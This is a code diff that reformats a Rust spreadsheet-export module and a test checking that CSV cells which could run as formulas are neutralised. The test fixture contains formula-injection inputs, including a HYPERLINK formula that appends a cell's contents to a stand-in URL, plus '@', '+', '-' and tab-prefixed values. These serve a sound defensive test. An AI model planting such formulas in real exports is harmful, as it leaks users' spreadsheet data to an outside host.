@@ -108,7 +108,10 @@ fn content_xml(sheet: &str, table: &[Vec<String>]) -> String {
         r#"<?xml version="1.0" encoding="UTF-8"?>
 <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet>"#,
     );
-    xml.push_str(&format!(r#"<table:table table:name="{}">"#, xml_escape(sheet)));
+    xml.push_str(&format!(
+        r#"<table:table table:name="{}">"#,
+        xml_escape(sheet)
+    ));
     for row in table {
         xml.push_str("<table:table-row>");
         for cell in row {
@@ -147,7 +150,10 @@ mod tests {
     fn table() -> Vec<Vec<String>> {
         vec![
             vec!["Naam".into(), "Organisatie".into()],
-            vec!["=HYPERLINK(\"http://x?\"&A1)".into(), "De \"Club\", Utrecht\r\nregel 2".into()],
+            vec![
+                "=HYPERLINK(\"http://x?\"&A1)".into(),
+                "De \"Club\", Utrecht\r\nregel 2".into(),
+            ],
             vec!["+31 6 1234".into(), "-5".into()],
             vec!["@SUM(A1)".into(), "\tgetabd".into()],
         ]
@@ -156,10 +162,15 @@ mod tests {
     #[test]
     fn csv_cells_that_could_run_as_formulas_are_neutralised_and_columns_kept() {
         let bytes = csv(&table()).unwrap_or_default();
-        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(bytes.as_slice());
         let rows: Vec<Vec<String>> = reader
             .records()
-            .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()).unwrap_or_default())
+            .map(|r| {
+                r.map(|r| r.iter().map(str::to_owned).collect())
+                    .unwrap_or_default()
+            })
             .collect();
         assert_eq!(rows.len(), 4);
         assert!(rows.iter().all(|r| r.len() == 2));
